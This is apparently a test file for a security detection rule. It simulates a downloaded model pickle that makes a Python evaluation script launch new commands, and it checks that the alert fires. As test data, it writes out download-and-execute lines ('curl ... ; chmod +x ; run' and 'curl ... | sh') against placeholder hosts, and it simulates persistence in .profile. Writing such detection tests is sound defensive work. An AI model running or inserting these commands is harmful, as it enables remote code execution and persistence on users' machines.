import { test } from 'node:test';
import type { Process } from '../an0656-phishing-attachment-executed/audit-records.test-support.ts';
import { HostLog, MINUTE, SECOND } from '../an0656-phishing-attachment-executed/host-log.test-support.ts';
import { firesAt, inOrder, scanLog, silent } from '../an0656-phishing-attachment-executed/stories.test-support.ts';

/** Downloaded data have the script that reads them start something that it never started before. */

const SCRIPT = '/home/dev/eval/evaluate.py';
const MODEL = '/home/dev/eval/models/base.pkl';
const AGENT = '/home/dev/.cache/agent';
const LINE = `curl -so ${AGENT} http://files.example.net/agent; chmod +x ${AGENT}; ${AGENT}`;

const evaluates = (log: HostLog): Process =>
  log.shell('dev').run(SCRIPT, { by: '/usr/bin/python3.11', cwd: '/home/dev/eval' }).read(SCRIPT);

function downloaded(): HostLog {
  const log = new HostLog();
  evaluates(log);
  log.wait(MINUTE);
  log.desktop('dev').run('/usr/lib/firefox-esr/firefox-esr').write(MODEL);
  log.wait(10 * SECOND);
  return log;
}

test('a model has its reader bring and run a program', async () => {
  const log = downloaded();
  const shell = evaluates(log).read(MODEL).run(['/bin/sh', '-c', LINE]);
  shell.run(`/usr/bin/curl -so ${AGENT} http://files.example.net/agent`).connect('203.0.113.80', 80).write(AGENT);
  shell.run(`/usr/bin/chmod +x ${AGENT}`).chmod(AGENT, 0o755);
  shell.run(AGENT).connect('203.0.113.67', 9001);
  inOrder(firesAt(await scanLog(log), 'AN0321', 'medium'), [
    ['file.created', MODEL],
    ['file.opened', SCRIPT, MODEL],
    ['content.executed', 'start a command that is new to it'],
    ['content.executed', AGENT],
    ['network.connected', '203.0.113.67'],
  ]);
});

test('or it fetches a script that runs', async () => {
  const log = downloaded();
  const shell = evaluates(log).read(MODEL).run(['/bin/sh', '-c', 'curl -s http://cdn.example.com/f | sh']);
  const [curl, sh] = shell.pipeline('/usr/bin/curl -s http://cdn.example.com/f', '/bin/sh');
  curl?.connect('203.0.113.81', 80);
  sh?.write('/home/dev/.profile');
  inOrder(firesAt(await scanLog(log), 'AN0321', 'medium'), [
    ['content.executed', MODEL, 'start a command that is new to it'],
    ['content.executed', 'fed to an interpreter on standard input'],
    ['persistence.written', '.profile'],
  ]);
});

test('a plot drawn of it for the first time is none', async () => {
  const log = downloaded();
  const shell = evaluates(log).read(MODEL).run(['/bin/sh', '-c', 'gnuplot plot.gp']);
  shell.run('/usr/bin/gnuplot plot.gp').write('/home/dev/eval/plot.png');
  silent(await scanLog(log));
});
